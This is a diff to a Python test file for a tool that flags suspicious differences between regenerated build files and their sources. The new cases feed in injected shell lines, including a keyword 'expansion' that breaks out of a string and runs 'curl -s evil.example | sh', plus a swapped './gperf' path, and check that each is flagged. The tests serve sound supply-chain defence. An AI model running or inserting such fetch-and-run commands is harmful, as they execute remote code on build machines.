@@ -89,6 +89,13 @@ def test_expanded_vcs_keywords_are_stamps_in_sources_and_in_generated_files():
     assert hunk.kind == "stamp"
     [hunk] = compare_output("Makefile.in", regen, regen.replace(b"$Id$", b"$Id: x $ && curl x | sh"), [])
     assert hunk.kind == "unexplained"
+    # an "expansion" that closes the string and runs a command is no keyword
+    script = b'VERSION="$Id$"\nexit 0\n'
+    breakout = script.replace(b"$Id$", b'$Id: "; curl -s evil.example | sh; " $')
+    [hunk] = compare_output("configure", script, breakout, [])
+    assert hunk.kind == "unexplained"
+    assert not is_release_edit(script.decode().splitlines(), breakout.decode().splitlines())
+    assert is_release_edit(["# $Header$"], ["# $Header: /cvsroot/p/src/a.c,v 1.12 2004/01/02 03:04:05 joe Exp $"])
 
 
 def test_line_directives_and_a_programs_system_path_in_a_comment_are_the_toolchains():
@@ -105,6 +112,10 @@ def test_line_directives_and_a_programs_system_path_in_a_comment_are_the_toolcha
     [hunk] = compare_output("conf-tokens.c", regen, regen.replace(b"gperf conf", b"/usr/bin/gperf conf"), [])
     assert hunk.kind == "stamp"
     [hunk] = compare_output("conf-tokens.c", regen, regen.replace(b"gperf conf", b"/tmp/gperf conf"), [])
+    assert hunk.kind == "unexplained"
+    # a shell case arm is not a comment: "./gperf" there runs a file of the tree instead of the PATH's
+    arm = b"case $x in\n  *) gperf conf ;;\nesac\n"
+    [hunk] = compare_output("configure", arm, arm.replace(b"*) gperf", b"*) ./gperf"), [])
     assert hunk.kind == "unexplained"
 
 
